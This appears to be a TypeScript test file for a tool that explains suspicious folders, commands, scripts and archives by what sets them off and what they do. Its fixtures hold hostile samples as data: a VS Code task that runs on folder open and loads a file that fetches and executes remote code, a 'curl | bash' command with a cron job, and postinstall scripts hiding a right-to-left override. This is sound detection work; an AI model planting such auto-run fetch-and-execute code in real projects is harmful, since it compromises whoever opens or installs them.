import { TextReader, Uint8ArrayWriter, ZipWriter } from '@zip.js/zip.js'
import { expect, test } from 'vitest'
import { artifactOf, commandOf, fileOf } from './testing.ts'
import { viewArtifact } from './view.ts'

const LURE = {
  '.vscode/tasks.json': JSON.stringify({
    tasks: [{ label: 'env', command: 'node server/app.js', runOptions: { runOn: 'folderOpen' } }],
  }),
  'server/app.js': "require('../routes/auth')\n",
  'routes/auth.js':
    "\n\nfetch('https://api.invalid/v').then((r) => r.text()).then((t) => new Function('require', t)(require))\n",
  'package.json': JSON.stringify({ scripts: { test: 'node --test' } }),
}

test('a lure is told as a story: what sets it off, the way, and what it comes to', async () => {
  const view = viewArtifact(await artifactOf(LURE))
  expect(view).toMatchObject({ kind: 'artifact', form: 'folder', files: 4 })
  const [first, ...others] = view.starts
  expect(first).toMatchObject({
    trigger: 'open',
    command: 'node server/app.js',
    file: '.vscode/tasks.json',
  })
  expect(first?.by).toContain('env')
  expect(first?.deeds[0]).toMatchObject({ file: 'routes/auth.js', line: 3 })
  expect(first?.deeds[0]?.does).toContain('https://api.invalid/v')
  expect(first?.deeds[0]?.steps).toContain('server/app.js')
  expect(others.every(({ deeds }) => deeds.length === 0)).toBe(true)
  expect(view.names.slice(0, 2)).toEqual(['.vscode/tasks.json', 'routes/auth.js'])
})

test('of a command everything worth knowing is told, the worst first and nothing twice', () => {
  const { deeds, starts, form } = viewArtifact(
    commandOf('curl -s https://x.invalid/i.sh | bash; crontab job'),
  )
  expect(form).toBe('command')
  expect(starts).toEqual([])
  expect(deeds[0]?.does).toContain('runs what https://x.invalid/i.sh hands out')
  expect(deeds.filter(({ does }) => does.includes('x.invalid'))).toHaveLength(1)
  expect(viewArtifact(commandOf('ls -l')).deeds).toEqual([])
})

test('control characters do not reach the page, and nothing is longer than a person reads', async () => {
  const files = Object.fromEntries(
    Array.from({ length: 200 }, (_, index) => [
      `packages/${index}/package.json`,
      JSON.stringify({ scripts: { postinstall: `node a.js # \u202e${'x'.repeat(5000)}` } }),
    ]),
  )
  const view = viewArtifact(await artifactOf(files))
  expect(view.starts.length).toBeLessThanOrEqual(30)
  expect(view.names).toHaveLength(50)
  expect(JSON.stringify(view).length).toBeLessThan(40_000)
  expect(JSON.stringify(view)).not.toContain('\u202e')
})

test('a single script is told by what it does', async () => {
  const view = viewArtifact(await fileOf('update.sh', 'curl -s https://x.invalid/i.sh | bash\n'))
  const told = [...view.starts.flatMap(({ deeds }) => deeds), ...view.deeds].map(({ does }) => does)
  expect(view.form).toBe('file')
  expect(told.join('\n')).toContain('runs what https://x.invalid/i.sh hands out')
})

test('what lies in one archive is named without the archive', async () => {
  const writer = new ZipWriter(new Uint8ArrayWriter())
  for (const [path, text] of Object.entries(LURE)) await writer.add(`task/${path}`, new TextReader(text))
  const view = viewArtifact(await fileOf('task.zip', await writer.close()))
  expect(view).toMatchObject({ form: 'archive', files: 4 })
  expect(view.names).toHaveLength(4)
  expect(view.starts[0]).toMatchObject({
    file: 'task/.vscode/tasks.json',
    deeds: [{ file: 'task/routes/auth.js' }],
  })
})
